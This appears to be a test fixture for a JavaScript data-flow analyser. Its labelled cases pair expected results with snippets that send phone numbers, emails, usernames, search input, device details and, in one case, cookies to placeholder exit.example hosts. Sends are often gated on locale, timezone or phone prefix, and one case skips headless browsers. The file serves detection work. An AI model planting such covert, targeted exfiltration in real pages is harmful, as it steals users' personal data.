//# early-return
// flow: phone > ret.exit.example via fetch
// guard: phone-prefix starts-with +86
function send(tel) {
  if (!tel.startsWith('+86')) return;
  fetch('https://ret.exit.example/r', { method: 'POST', body: tel });
}
send(document.querySelector('input[type=tel]').value);

//# early-return-negative
// flow: email > neg.exit.example via fetch
// guard: not language starts-with de
(function () {
  if (navigator.language.startsWith('de')) return;
  fetch('https://neg.exit.example/r', { method: 'POST', body: document.querySelector('input[type=email]').value });
})();

//# return-in-inner-function
// flow: email > inner.exit.example via fetch
// no guard
// why: the return leaves the callback of forEach, not the function that sends
function go() {
  ['a', 'b'].forEach(function (x) {
    if (navigator.language.startsWith('de')) return;
    console.log(x);
  });
  fetch('https://inner.exit.example/r', { method: 'POST', body: document.querySelector('input[type=email]').value });
}
go();

//# throw-exit
// flow: username > thr.exit.example via xhr
// guard: timezone equals Asia/Shanghai
document.querySelector('#go').onclick = function () {
  if (Intl.DateTimeFormat().resolvedOptions().timeZone !== 'Asia/Shanghai') throw new Error('unsupported');
  var x = new XMLHttpRequest();
  x.open('POST', 'https://thr.exit.example/t');
  x.send(document.querySelector('input[name=username]').value);
};

//# throw-caught
// flow: username > caught.exit.example via fetch
// no guard
// why: the throw is caught and the code after the try runs in any case
try {
  if (navigator.language !== 'zh-CN') throw new Error('lang');
  document.body.lang = 'zh';
} catch (e) { console.log(e.message); }
fetch('https://caught.exit.example/t', { method: 'POST', body: document.querySelector('input[name=username]').value });

//# switch-case
// flow: search > zh.exit.example via fetch
// guard: language equals zh-CN
// no destination: de.exit.example
switch (navigator.language) {
  case 'zh-CN':
    fetch('https://zh.exit.example/s?q=' + document.querySelector('input[type=search]').value);
    break;
  case 'de':
    console.log('https://de.exit.example/');
    break;
}

//# switch-two-labels
// flow: search > two.exit.example via fetch
// guard: language one-of zh-CN | zh-TW
switch (navigator.language) {
  case 'zh-CN':
  case 'zh-TW':
    fetch('https://two.exit.example/s?q=' + document.querySelector('input[type=search]').value);
}

//# switch-after
// flow: search > sw.exit.example via fetch
// no guard
// why: every case breaks out to the statement that sends
let theme;
switch (navigator.language) {
  case 'zh-CN': theme = 'red'; break;
  default: theme = 'blue';
}
document.body.className = theme;
fetch('https://sw.exit.example/s?q=' + document.querySelector('input[type=search]').value);

//# loop-continue
// flow: phone > cont.exit.example via beacon
// guard: phone-prefix starts-with +852
for (const f of document.querySelectorAll('input[type=tel]')) {
  if (!f.value.startsWith('+852')) continue;
  navigator.sendBeacon('https://cont.exit.example/c', f.value);
}

//# loop-break-always
// no flow
// why: both ways of the condition leave the loop before the request
for (const f of document.querySelectorAll('input[type=tel]')) {
  if (f.value.startsWith('+852')) break;
  else break;
  navigator.sendBeacon('https://brk.exit.example/c', f.value);
}

//# two-returns
// flow: device > twice.exit.example via fetch
// guard: user-agent contains Android
// guard: not user-agent contains HeadlessChrome
function fp() {
  if (navigator.userAgent.includes('HeadlessChrome')) return null;
  if (!navigator.userAgent.includes('Android')) return null;
  return fetch('https://twice.exit.example/f', { method: 'POST', body: navigator.userAgent });
}
fp();

//# return-after-send
// flow: device > before.exit.example via fetch
// no guard
// why: the return comes after the request
function snap() {
  fetch('https://before.exit.example/f', { method: 'POST', body: navigator.platform });
  if (navigator.userAgent.includes('Android')) return 1;
  return 0;
}
snap();

//# always-returns
// no flow
// why: if and else both return, the request is never reached
function never() {
  if (navigator.language === 'zh-CN') return 'a';
  else return 'b';
  fetch('https://alw.exit.example/n', { method: 'POST', body: document.cookie });
}
document.title = never();

//# labelled-block
// flow: email > lab.exit.example via fetch
// guard: not timezone equals Europe/Berlin
out: {
  if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Berlin') break out;
  fetch('https://lab.exit.example/l', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# async-return
// flow: phone > async.exit.example via fetch
// guard: phone-prefix starts-with +86
const submit = async () => {
  const t = document.querySelector('input[type=tel]').value;
  if (!t.startsWith('+86')) return;
  await null;
  await fetch('https://async.exit.example/a', { method: 'POST', body: t });
};
submit();

//# finally-returns
// no flow
// why: the return stands before the request on every way
(function () {
  try { document.querySelector('#m').textContent = document.querySelector('input[type=email]').value; return; }
  catch (e) { return; }
  fetch('https://fin.exit.example/f', { method: 'POST', body: document.querySelector('input[type=email]').value });
})();

//# throw-before-all
// no flow
// why: for Chinese the function throws, else it returns
function only() {
  const v = document.querySelector('input[type=search]').value;
  if (navigator.language === 'zh-CN') throw new Error('zh');
  else return v.length;
  navigator.sendBeacon('https://thrall.exit.example/t', v);
}
document.querySelector('#go').onclick = only;
